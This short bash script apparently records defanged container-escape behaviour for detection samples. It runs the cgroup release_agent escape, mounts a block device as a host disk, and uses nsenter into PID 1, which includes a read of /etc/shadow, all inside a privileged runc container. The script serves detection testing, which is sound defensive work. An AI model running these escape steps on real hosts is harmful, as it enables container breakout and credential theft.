#!/bin/bash
# Breaks out of a privileged container in the three best-known ways: a release agent, a mount of the host's disk, and
# the namespaces of the host's first process. All of it harmless: the cgroup hierarchy is one of the sample's own and
# names a program that does not exist, the disk is none, and the "host" is the clean root. Run it through
# samples/record.sh.
#
# container: build-7 registry.example.com/ci/builder:7 privileged
set -u
bundle=/srv/build-7
id=$(printf build-7 | sha256sum | cut -c1-64)

inside() {
    runc exec "$id" /bin/bash -c "$1" </dev/null >/dev/null 2>&1
}

# A hierarchy without controllers tells the kernel what to run, on the host, when its last process has gone.
release_agent='
    mkdir /tmp/cg
    mount -t cgroup -o none,name=scap-sample cgroup /tmp/cg || exit
    mkdir /tmp/cg/x
    echo 1 >/tmp/cg/x/notify_on_release
    echo /no/such/scap-sample >/tmp/cg/release_agent
    sh -c "echo \$\$ >/tmp/cg/x/cgroup.procs"
    rmdir /tmp/cg/x
    # A hierarchy goes away with its mount only if the kernel is through with its groups.
    sleep 0.5
    umount /tmp/cg
'

host_disk='
    mknod /tmp/disk b 7 250
    mkdir /tmp/host
    mount -t ext4 /tmp/disk /tmp/host
    rm /tmp/disk
'

host_namespaces='
    nsenter --target 1 --mount --uts -- /bin/sh -c "id; cat /etc/shadow >/dev/null; hostname"
'

runc run --detach --bundle "$bundle" "$id" </dev/null >/dev/null 2>&1
inside "$release_agent"
inside "$host_disk"
inside "$host_namespaces"
runc delete --force "$id"
if grep -q scap-sample /proc/self/cgroup; then
    mount -t cgroup -o none,name=scap-sample cgroup /mnt && umount /mnt
fi
